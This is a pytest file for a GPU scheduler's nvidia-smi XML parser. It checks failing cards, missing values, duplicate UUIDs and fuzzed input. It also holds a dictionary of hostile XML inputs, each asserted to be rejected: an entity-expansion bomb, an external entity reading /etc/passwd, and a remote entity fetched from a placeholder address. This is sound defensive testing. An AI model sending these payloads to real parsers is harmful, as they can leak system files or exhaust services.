"""Malformed nvidia-smi output: unknown values, failing GPUs, and hostile content."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from hetsched.agent.gpus.nvidia_xml import MAX_BYTES
from hetsched.agent.gpus.probe import probe_cards
from hetsched.agent.tree import Tree
from hetsched.contracts.messages.agent_report import MachineCard
from tests.unit.agent.cards import document


def read(data: bytes, root: Path) -> tuple[tuple[MachineCard, ...] | None, list[str]]:
    tree = Tree(root)
    (root / "sys/bus/pci/devices").mkdir(parents=True, exist_ok=True)
    cards = probe_cards(tree, data)
    return cards, [f"{problem.code}: {problem.message}" for problem in tree.problems]


def changed(old: str, new: str, name: str = "qx-gb200") -> bytes:
    data = document(name)
    assert old.encode() in data
    return data.replace(old.encode(), new.encode(), 1)


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("<remapped_row_failure>No", "<remapped_row_failure>Yes", "could not be remapped"),
        ("<unrepairable_memory>No", "<unrepairable_memory>Yes", "cannot be repaired"),
        ("<gpu_recovery_action>None", "<gpu_recovery_action>GPU Reset", "recovery action GPU Reset"),
        ("<summary>Healthy", "<summary>Unhealthy", "fabric is Unhealthy"),
        ("<total>189471 MiB", "<total>GPU is lost", "reports 'GPU is lost' for fb_memory_usage/total"),
        ("<product_name>NVIDIA GB200", "<product_name>[Unknown Error]", "reports '[Unknown Error]' for product_name"),
    ],
)
def test_failed_gpu_is_unhealthy(old: str, new: str, why: str, tmp_path: Path) -> None:
    cards, problems = read(changed(old, new), tmp_path)
    assert cards is not None
    assert [card.healthy for card in cards] == [False, True, True, True]
    assert [problem for problem in problems if problem.startswith("CardUnhealthy") and why in problem]


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("<remapped_row_pending>No", "<remapped_row_pending>Yes", "remapped at the next reset"),
        ("<pending_retirement>N/A", "<pending_retirement>Yes", "retired at the next reset"),
        ("<pending_mig>Disabled", "<pending_mig>Enabled", "MIG is Disabled and will be Enabled"),
    ],
)
def test_pending_reset_is_noted(old: str, new: str, why: str, tmp_path: Path) -> None:
    cards, problems = read(changed(old, new), tmp_path)
    assert cards is not None
    assert cards[0].healthy is True
    assert [problem for problem in problems if problem.startswith("CardNoted") and why in problem]


@pytest.mark.parametrize(
    "word", ["N/A", "[N/A]", "", "Requested functionality has been deprecated", "Insufficient Permissions"]
)
def test_value_missing_in_the_driver_output_is_unknown(word: str, tmp_path: Path) -> None:
    cards, _ = read(changed("<total>189471 MiB", f"<total>{word}"), tmp_path)
    assert cards is not None
    assert (cards[0].memory_mib, cards[0].healthy) == (None, None)


def test_processes_are_counted_once_each(tmp_path: Path) -> None:
    users = "".join(f"<process_info><pid>{pid}</pid></process_info>" for pid in (7, 7, 9))
    cards, _ = read(changed("<processes>", f"<processes>{users}"), tmp_path)
    assert cards is not None
    assert [card.processes for card in cards] == [2, 0, 0, 0]


def test_duplicate_gpu_uuid_is_ignored(tmp_path: Path) -> None:
    same = "<uuid>GPU-00000000-0000-0000-0000-000000000000"
    cards, problems = read(changed("<uuid>GPU-00000001-0000-0000-0000-000000000001", same), tmp_path)
    assert cards is not None
    assert [card.uuid is None for card in cards] == [True, True, False, False]
    assert len([problem for problem in problems if "another card has the same uuid" in problem]) == 2


def test_product_with_a_similar_name_is_not_confused(tmp_path: Path) -> None:
    # An A100 of 40 GB shows 36045 MiB (-12 %) at least; half of one is a virtual GPU of that name.
    cards, problems = read(changed("<total>40960 MiB", "<total>20480 MiB", "qx-a100"), tmp_path)
    assert cards is not None
    assert (cards[0].memory_mib, cards[0].cores, cards[0].bandwidth_gbs) == (20480, None, None)
    assert any(problem.startswith("CardNotInTable") for problem in problems)


HEAD = b'<?xml version="1.0"?>'
ENTITIES = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
HOSTILE = {
    "a bomb of entities": HEAD
    + b'<!DOCTYPE nvidia_smi_log [<!ENTITY e0 "ha">' + ENTITIES + b"]><nvidia_smi_log>&e11;</nvidia_smi_log>",
    "a file of the machine": HEAD
    + b'<!DOCTYPE nvidia_smi_log [<!ENTITY f SYSTEM "file:///etc/passwd">]><nvidia_smi_log>&f;</nvidia_smi_log>',
    "a foreign definition": HEAD
    + b'<!DOCTYPE nvidia_smi_log [<!ENTITY % f SYSTEM "http://192.0.2.1/x">%f;]><nvidia_smi_log/>',
    "an entity from nowhere": HEAD
    + b'<!DOCTYPE nvidia_smi_log SYSTEM "nvsmi_device_v12.dtd"><nvidia_smi_log>&f;</nvidia_smi_log>',
    "a tower": HEAD + b"<nvidia_smi_log>" + b"<a>" * 100_000,
    "deep skipped elements": b"<nvidia_smi_log>" + b"<supported_clocks>" * 100_000,
    "a crowd": b"<nvidia_smi_log>" + b"<gpu/>" * 200_000 + b"</nvidia_smi_log>",
    "too much": b"<nvidia_smi_log>" + b" " * MAX_BYTES + b"</nvidia_smi_log>",
    "another document": b"<html/>",
    "nothing that is looked at": b"<supported_clocks/>",
    "nothing": b"",
    "unknown encoding": b'<?xml version="1.0" encoding="klingon"?><nvidia_smi_log/>',
    "no text": bytes(range(256)),
}  # fmt: skip


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE)
def test_hostile_document_is_rejected(data: bytes, tmp_path: Path) -> None:
    cards, problems = read(data, tmp_path)
    assert cards == ()  # the text for an empty PCI bus
    assert [problem for problem in problems if problem.startswith("NvidiaDocumentUnreadable")]


def test_document_without_gpus(tmp_path: Path) -> None:
    assert read(b"<nvidia_smi_log><attached_gpus>0</attached_gpus></nvidia_smi_log>", tmp_path) == ((), [])


@pytest.mark.parametrize("seed", range(40))
def test_damaged_document_raises_no_exception(seed: int, tmp_path: Path) -> None:
    chance = random.Random(seed)
    data = bytearray(document(chance.choice(["telegraf-a100-sxm4-v12", "qx-t4"])))
    for _ in range(chance.choice([1, 3, 20])):
        at = chance.randrange(len(data))
        match chance.randrange(4):
            case 0:
                data[at] = chance.randrange(256)
            case 1:
                del data[at : at + chance.randrange(1, 200)]
            case 2:
                data[at:at] = data[: chance.randrange(1, 2000)]
            case _:
                end = at + chance.randrange(1, 40)
                data[at:end] = b"9" * (end - at)
    cards, _ = read(bytes(data), tmp_path)
    assert cards is None or len({card.index for card in cards}) == len(cards)
